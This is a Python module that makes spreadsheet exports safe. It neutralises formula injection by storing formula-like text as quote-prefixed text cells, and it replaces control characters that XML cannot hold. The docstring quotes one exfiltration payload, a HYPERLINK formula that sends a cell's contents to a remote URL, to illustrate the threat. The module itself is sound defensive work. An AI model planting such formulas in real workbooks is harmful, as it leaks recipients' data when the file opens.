"""Writing spreadsheets safely: every value an export writes goes through `safe_cell`.

Two things in data must never reach a workbook as they are:

- a text that begins with = + - @ (or a tab or carriage return before one) is what a spreadsheet
  takes for a formula (`=HYPERLINK("http://…?leak="&A1, …)` runs when the file is opened). It is
  written as a text cell with Excel's quote-prefix flag, so it shows exactly as typed and is
  never evaluated, also after the cell is edited;
- control characters that XML 1.0 cannot hold (ESC, BEL, …) make openpyxl refuse the whole file;
  each is written as U+FFFD instead, so one bad name never stops an export.

Use `append_row(sheet, values)` for every row of every export (reports, lists, anything added later).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
# What XML 1.0 refuses (openpyxl's ILLEGAL_CHARACTERS_RE), plus the surrogates a bad decode leaves.
ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
REPLACEMENT = "\ufffd"


def clean_text(text: str) -> str:
    """The text with every character a workbook cannot hold replaced by U+FFFD."""
    return ILLEGAL.sub(REPLACEMENT, text)


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula when typed or imported."""
    return text.lstrip(" ").startswith(FORMULA_START)


def safe_cell(sheet: Worksheet, value: Any) -> Any:
    """The value ready for `sheet.append`: numbers, dates and None as they are; text as a plain text cell."""
    if not isinstance(value, str):
        return value
    text = clean_text(value)
    cell = Cell(sheet, value=None)
    cell.value = text
    # openpyxl turns a text starting with "=" into a formula; a text cell it stays.
    cell.data_type = "s"
    if looks_like_formula(text):
        cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append one row, every value through safe_cell."""
    sheet.append([safe_cell(sheet, v) for v in values])


def safe_title(title: str) -> str:
    """A sheet title openpyxl accepts: no control characters, none of []:*?/\\, at most 31 characters."""
    return re.sub(r"[\[\]:*?/\\]", "_", clean_text(title).replace(REPLACEMENT, "_"))[:31]
